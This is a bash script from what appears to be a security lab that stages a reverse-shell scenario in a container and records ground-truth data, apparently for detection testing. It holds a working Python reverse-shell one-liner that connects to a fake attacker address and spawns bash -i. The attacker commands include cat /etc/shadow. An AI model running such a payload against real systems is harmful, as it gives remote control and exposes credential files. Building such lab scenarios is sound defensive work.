#!/bin/bash
# Scenario revshell-py: a reverse shell from a Python one-liner. Python connects to a fake
# attacker on 127.111.x.y, dup2s the socket onto its stdin/stdout/stderr and runs bash -i,
# whose fds 0, 1 and 2 are then the connection. The attacker runs id, uname -a,
# cat /etc/shadow and ls -la /root through it; the shell is live at the checkpoint.
# Usage: lab/scenarios/revshell-py.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init revshell-py "$@"
lab_use_tools_image

REV="$(lab_addr 111):$(lab_pick 4444 9001 1337 8081)"
ONELINER="python3 -c 'import socket,os,subprocess;s=socket.socket();s.connect((\"${REV%:*}\",${REV#*:}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/bash\",\"-i\"])'"
CMDS='id|uname -a|cat /etc/shadow|ls -la /root'

lab_shell_listener "$REV" "$CMDS"

lab_run --env APP_ENV=prod --hostname search-api -- sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_exec_bg "$ONELINER"
lab_wait_shell_done

lab_finish /etc/shadow

lab_kv_json "$WORK/params.json" "listener=$REV" "command=$ONELINER" "attacker_commands:=$(IFS='|'; lab_json_list $CMDS)"
lab_facts --conn "shell=$REV"
lab_truth --description "reverse shell: a python3 one-liner connects to $REV and runs bash -i on the socket" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
